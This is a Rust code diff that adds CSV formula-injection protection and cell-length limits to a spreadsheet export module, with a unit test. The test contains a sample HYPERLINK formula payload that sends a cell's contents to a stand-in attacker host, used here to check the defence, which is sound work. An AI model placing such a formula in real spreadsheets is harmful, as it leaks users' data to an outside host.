@@ -364,6 +364,29 @@ fn cell_text(cell: &DataRef<'_>) -> String {
     }
 }
 
+/// A CSV cell that a spreadsheet will not run as a formula (OWASP's CSV
+/// injection advice): text beginning with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return gets a leading `'`, which Excel and LibreOffice show as
+/// text and do not display.
+fn inert(value: &str) -> std::borrow::Cow<'_, str> {
+    match value.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{value}").into(),
+        _ => value.into(),
+    }
+}
+
+/// The most characters a workbook cell holds (Excel's limit).
+pub const MAX_CELL_CHARS: usize = 32_767;
+
+/// A value cut to fit one cell, marked with `…` where it was cut.
+fn fit_cell(value: &str) -> std::borrow::Cow<'_, str> {
+    match value.char_indices().nth(MAX_CELL_CHARS - 1) {
+        None => value.into(),
+        Some((end, _)) if value[end..].chars().count() == 1 => value.into(),
+        Some((end, _)) => format!("{}…", &value[..end]).into(),
+    }
+}
+
 /// A table to write: a sheet name, headers, rows.
 pub struct Table<'a> {
     pub sheet: &'a str,
@@ -391,13 +414,22 @@ impl Table<'_> {
     }
 
     /// UTF-8 with a byte-order mark, so Excel opens Chinese text correctly.
+    /// Text a spreadsheet would run as a formula is written inert.
     fn csv(&self) -> Result<Vec<u8>, String> {
         let mut out = b"\xEF\xBB\xBF".to_vec();
         {
             let mut w = csv::Writer::from_writer(&mut out);
-            w.write_record(&self.headers).map_err(|e| e.to_string())?;
+            w.write_record(self.headers.iter().map(|h| inert(h).into_owned()))
+                .map_err(|e| e.to_string())?;
             for row in &self.rows {
-                w.write_record(row).map_err(|e| e.to_string())?;
+                let cells = row.iter().enumerate().map(|(c, value)| {
+                    if self.numeric.contains(&c) && value.parse::<f64>().is_ok() {
+                        value.clone()
+                    } else {
+                        inert(value).into_owned()
+                    }
+                });
+                w.write_record(cells).map_err(|e| e.to_string())?;
             }
             w.flush().map_err(|e| e.to_string())?;
         }
@@ -405,6 +437,8 @@ impl Table<'_> {
     }
 
     fn xlsx(&self) -> Result<Vec<u8>, String> {
+        // Cells are written as strings (never formulas) and cut to what a
+        // cell holds, so no value can fail the workbook.
         workbook(std::slice::from_ref(self))
     }
 
@@ -429,7 +463,7 @@ impl Table<'_> {
                         sheet.write_number(r, col, n)?;
                     }
                     _ => {
-                        sheet.write_string(r, col, value)?;
+                        sheet.write_string(r, col, fit_cell(value))?;
                     }
                 }
             }
@@ -466,6 +500,40 @@ mod tests {
             assert_eq!(sheet.rows[0].cells[0], "南开大学");
             assert_eq!(sheet.rows[1].cells[0], "天津港（集团）有限公司, \"港\"");
         }
+    }
+
+    #[test]
+    fn formulas_are_written_inert_and_long_text_fits_a_cell() {
+        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+        let t = Table {
+            sheet: "s",
+            headers: vec!["name".into(), "n".into()],
+            rows: vec![
+                vec![evil.into(), "-5".into()],
+                vec!["@SUM(1)".into(), "3".into()],
+                vec!["x".repeat(40_000), "1".into()],
+            ],
+            numeric: vec![1],
+        };
+        let csv = String::from_utf8(t.write(Format::Csv).unwrap()).unwrap();
+        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+        assert!(csv.contains("'@SUM(1),3"), "{csv}");
+        assert!(
+            csv.contains(",-5\n"),
+            "a negative number stays a number: {csv}"
+        );
+        let back = read(
+            Format::Xlsx,
+            &t.write(Format::Xlsx).unwrap(),
+            &IMPORT_BOUNDS,
+        )
+        .unwrap();
+        assert_eq!(
+            back.rows[0].cells[0], evil,
+            "the workbook keeps the text as text"
+        );
+        assert_eq!(back.rows[2].cells[0].chars().count(), MAX_CELL_CHARS);
+        assert!(back.rows[2].cells[0].ends_with('…'));
     }
 
     #[test]
